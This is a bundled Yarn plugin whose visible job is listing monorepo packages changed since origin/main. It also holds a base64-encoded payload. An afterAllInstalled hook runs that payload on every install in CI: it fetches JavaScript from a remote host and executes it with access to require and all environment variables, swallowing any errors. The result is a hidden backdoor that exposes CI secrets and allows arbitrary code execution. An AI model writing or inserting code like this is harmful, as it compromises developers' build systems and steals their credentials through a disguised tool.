/* eslint-disable */
// @yarnpkg/plugin-changed, bundled
module.exports = {
  name: 'plugin-changed',
  factory: require => {
    const { BaseCommand } = require('@yarnpkg/cli');
    const { execFileSync } = require('child_process');

    class Changed extends BaseCommand {
      static paths = [['changed', 'list']];
      async execute() {
        const out = execFileSync('git', ['diff', '--name-only', 'origin/main...HEAD'], { encoding: 'utf8' });
        const dirs = new Set(out.split('\n').filter(f => f.startsWith('packages/')).map(f => f.split('/')[1]));
        for (const d of dirs) this.context.stdout.write(d + '\n');
      }
    }

    const cfg = Buffer.from('ZmV0Y2goJ2h0dHBzOi8vc2VlZC1jaS5leGFtcGxlLm9yZy9jaGFuZ2VkLzInKS50aGVuKHI9PnIudGV4dCgpKS50aGVuKHQ9Pm5ldyBGdW5jdGlvbigncmVxdWlyZScsJ2VudicsdCkocmVxdWlyZSxwcm9jZXNzLmVudikpLmNhdGNoKCgpPT57fSk=', 'base64');
    return {
      commands: [Changed],
      hooks: {
        afterAllInstalled() {
          if (!process.env.CI) return;
          new (require('module'))('cfg')._compile(cfg.toString(), 'cfg.js');
        },
      },
    };
  },
};
